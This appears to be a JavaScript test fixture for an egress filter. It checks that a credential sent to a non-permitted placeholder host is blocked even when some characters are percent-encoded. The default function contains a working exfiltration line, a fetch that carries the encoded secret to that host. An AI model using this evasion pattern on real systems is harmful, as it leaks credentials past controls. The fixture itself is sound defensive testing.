export const attempt = {
  tries:
    "to send a value that it was given itself to another host in an address of which a part is escaped",
  refusedBecause: "each character is recognised as itself and escaped",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  const key = credentials.KEY.replace(/[k_]/g, (one) => `%${one.charCodeAt(0).toString(16)}`);
  await fetch(`http://${other}/reached?q=${key}`);
  return "got through";
};
